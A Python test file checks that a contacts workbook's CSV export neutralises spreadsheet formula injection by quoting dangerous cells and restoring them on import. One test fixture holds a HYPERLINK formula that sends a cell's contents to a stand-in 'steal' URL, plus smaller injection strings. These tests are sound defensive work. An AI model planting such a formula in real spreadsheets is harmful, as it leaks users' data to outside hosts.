"""The workbook's spreadsheet export: two files, formula injection made inert."""

import csv

import pytest

from workbook.domain.contacts import Contact
from workbook.domain.exchanges import Exchange
from workbook.formats import apply_import, export_csv, plan_import
from workbook.formats.csvfile import inert, paths, restored
from workbook.sample import populate
from workbook.store import Store


def read_rows(path):
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_two_files_beside_the_path(store, tmp_path):
    populate(store)
    message = export_csv(store, tmp_path / "mine.csv")
    contacts, exchanges = tmp_path / "mine-contacts.csv", tmp_path / "mine-exchanges.csv"
    assert message == f"Wrote 40 contacts to {contacts} and {len(store.backup.records('exchanges'))} exchanges to {exchanges}"
    assert contacts.read_bytes().startswith(b"\xef\xbb\xbfid,name,circle,")
    assert len(read_rows(contacts)) == 40
    first = read_rows(exchanges)[0]
    assert first["contact"] == store.contacts.get(int(first["contact_id"])).name
    assert paths(tmp_path / "mine") == (contacts, exchanges)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "'quoted"])
def test_cells_a_spreadsheet_would_run_get_a_leading_quote(value):
    assert inert(value) == "'" + value
    assert restored(inert(value)) == value


@pytest.mark.parametrize("value", ["Ana", "a=b", "", "1-2", 42, None])
def test_other_cells_are_left_alone(value):
    assert inert(value) == value


def test_formula_injection_is_neutralised_in_both_files(store, tmp_path):
    evil = '=HYPERLINK("http://example.com/steal?"&A1,"click")'
    who = store.contacts.add(Contact("@evil", "both", company=evil, notes="-2+3", interests="+cmd"))
    store.exchanges.log(Exchange(who, "gave", "advice", store.today(), note="=1+1"))
    export_csv(store, tmp_path / "out")
    [contact] = read_rows(tmp_path / "out-contacts.csv")
    assert (contact["name"], contact["company"], contact["notes"], contact["interests"]) == (
        "'@evil", "'" + evil, "'-2+3", "'+cmd",
    )
    [exchange] = read_rows(tmp_path / "out-exchanges.csv")
    assert (exchange["contact"], exchange["note"]) == ("'@evil", "'=1+1")


def test_the_contacts_file_reads_back_without_the_quotes(store, tmp_path):
    store.contacts.add(Contact("=Ana", "personal", company="@Acme", notes="'already quoted"))
    export_csv(store, tmp_path / "out.csv")
    other = Store(tmp_path / "other.sqlite3")
    report = apply_import(plan_import(tmp_path / "out-contacts.csv", None, other), other)
    [ana] = other.backup.records("contacts")
    other.close()
    assert report.kind == "workbook-csv"
    assert (ana["name"], ana["company"], ana["notes"], ana["circle"]) == ("=Ana", "@Acme", "'already quoted", "personal")
